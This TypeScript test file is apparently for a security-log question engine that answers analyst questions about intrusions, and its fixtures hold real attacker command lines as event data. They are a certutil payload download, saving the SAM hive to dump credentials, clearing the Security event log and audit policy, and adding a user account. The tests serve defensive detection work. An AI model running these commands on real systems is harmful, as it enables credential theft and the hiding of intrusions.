import type { Picture, PictureFinding } from "@lagebild/domain";
import { describe, expect, it } from "vitest";
import type { KnownTopic, QuestionEngine } from "../engine.js";
import { readQuestion } from "../read-question.js";
import { testEngine, type TestEvent } from "../testing/test-engine.js";

const start = (
  second: number,
  rules: string,
  command: string,
  fields: Readonly<Record<string, string>> = {},
): TestEvent => ({
  time: String(1_770_000_000 + second),
  host: "ws07",
  "event.category": "process",
  "event.type": "start",
  "lagebild.rules": rules,
  "process.name": command.split(" ")[0]!,
  "process.executable": `C:\\Windows\\System32\\${command.split(" ")[0]!}`,
  "process.command_line": command,
  "user.name": "bob",
  text: command,
  ...fields,
});

const FETCH = "certutil.exe -urlcache -f http://203.0.113.9/a.bin C:\\Temp\\a.bin";
const SAVE = "reg.exe save HKLM\\SAM C:\\Temp\\s";
const WIPE = "wevtutil.exe cl Security";
const QUIET = "auditpol.exe /clear";

const engine = testEngine([
  start(0, "lolbin_download", FETCH),
  start(10, "sam_hive_saved", SAVE),
  start(20, "event_log_cleared", WIPE),
  start(30, "windows_audit_disabled", QUIET),
  start(40, "service_installed", "sc.exe create helper7", { "service.name": "helper7" }),
  { time: "1770000050", host: "ws07", "lagebild.rules": "wmi_subscription", "rule.name": "FILTER7", text: "filter" },
  start(60, "", "notepad.exe readme.txt"),
]);

const read = async (question: string, of: QuestionEngine = engine) => (await readQuestion(question, of))!;

async function listed(question: string, of: QuestionEngine = engine): Promise<readonly string[]> {
  const { results } = await read(question, of);
  return results.flatMap(({ values = [], groups = [] }) => [
    ...values.map(({ value }) => value),
    ...groups.flatMap((group) => group.values.filter((value) => value !== undefined)),
  ]);
}

describe("what somebody did is told by the commands that did it", () => {
  it.each([
    ["what was downloaded onto ws07, with which tool, from where and saved to", FETCH],
    ["was wurde auf ws07 heruntergeladen, womit, von wo und wohin gespeichert", FETCH],
    ["was hat bob heruntergeladen", FETCH],
    ["what got dumped, and where was it written to?", SAVE],
    ["how did they dump the secrets?", SAVE],
  ])("%s", async (question, command) => {
    expect(await listed(question)).toContain(command);
    expect(await listed(question)).not.toContain("notepad.exe readme.txt");
  });

  it.each(["what did they do to hide their traces on ws07?", "Wie haben sie ihre Spuren verwischt?"])(
    "of every kind that the question takes in: %s",
    async (question) => {
      expect(await listed(question)).toEqual(expect.arrayContaining([WIPE, QUIET]));
    },
  );

  it("and records without a command by what they are about", async () => {
    const names = await listed("what persistence was set up?");
    expect(names).toEqual(expect.arrayContaining(["helper7", "FILTER7"]));
  });

  it("side by side in one list where no record is left out", async () => {
    const { read: asked } = await read("what was downloaded, by which account, from where");
    expect(asked.reading.asks.filter(({ ask }) => ask === "list")).toHaveLength(1);
  });

  it("and what nothing is known of but a host stays as it was asked", async () => {
    expect(await listed("which files are on ws07?")).not.toContain(FETCH);
  });

  it("a question how somebody did it is not whether", async () => {
    const { read: asked } = await read("how did they clear the log?");
    expect(asked.reading.asks.map(({ ask }) => ask)).not.toContain("yes-no");
  });
});

const TOPIC: KnownTopic = {
  id: "account-created",
  title: { en: "New account", de: "Neues Konto" },
  words: { en: [], de: [] },
  shownBy: [],
  rules: ["account_created", "windows_account_command"],
};

it.each(["with which command was the account created?", "Mit welchem Befehl wurde das Konto angelegt?"])(
  "what the records of an event do not say, those of its topic may: %s",
  async (question) => {
    const created = { time: "1770000000", host: "dc1", "lagebild.rules": "account_created", "user.target.name": "eve" };
    const events = [{ ...created, text: "created eve" }, start(1, "windows_account_command", "net.exe user eve /add")];
    expect(await listed(question, testEngine(events, [TOPIC]))).toContain("net.exe user eve /add");
  },
);

it("where no record is of an event and others of its topic are, nothing is denied and nothing claimed", async () => {
  const known = testEngine([start(1, "windows_account_command", "net.exe user eve /add")], [TOPIC]);
  const { read: asked } = await read("was an account created?", known);
  expect(asked.verdict).toBe("insufficient");
});

const seen = (...values: readonly string[]) => ({
  values: values.map((value) => ({ value, count: 1 })),
  distinct: values.length,
});

const finding: PictureFinding = {
  id: "f1",
  rule: "lolbin_download",
  title: "Download",
  statement: { en: "A download", de: "Ein Download" },
  level: "high",
  sure: "likely",
  tactics: [],
  techniques: [],
  who: seen("bob"),
  from: seen(),
  to: seen(),
  hosts: seen("ws07"),
  what: seen(FETCH),
  count: 1,
  lines: [],
  parts: [],
  firstTime: 1,
  lastTime: 1,
};

it("a class of many kinds is named by those that the picture found", async () => {
  const picture = {
    sources: [],
    findings: [{ ...finding, id: "f2", rule: "wmi_subscription" }],
    topics: [
      { topic: "wmi-subscription", title: { en: "Subscription in WMI", de: "Abonnement in WMI" }, findings: ["f2"] },
    ],
  } as unknown as Picture;
  const known = { ...engine, picture: () => Promise.resolve(picture) };
  const { read: asked } = await read("what persistence was set up?", known);
  expect(asked.reading.of[0]!.events[0]!.titles.en).toContain("(Subscription in WMI)");
  expect(asked.findings?.map(({ id }) => id)).toEqual(["f2"]);
});

describe("values that none of the records has", () => {
  const query = { "network.protocol": "dns", "event.category": "network", "event.type": "protocol" };
  const names = testEngine([
    {
      time: "1770000000",
      host: "ws07",
      ...query,
      "event.action": "dns-query",
      "dns.question.name": "cdn.example.org",
      text: "query",
    },
    {
      time: "1770000001",
      host: "ws07",
      "event.category": "network",
      "source.ip": "192.0.2.7",
      "destination.ip": "203.0.113.9",
      text: "flow",
    },
  ]);

  it("are not listed together, as if there were none of them to be had", async () => {
    const { read: it } = await read("to which ipv4 address did cdn.example.org resolve?", names);
    expect(it.verdict).not.toBe("answered");
    expect(it.reading.asks.every((ask) => ask.ask !== "list" || ask.of.length === 1)).toBe(true);
  });
});
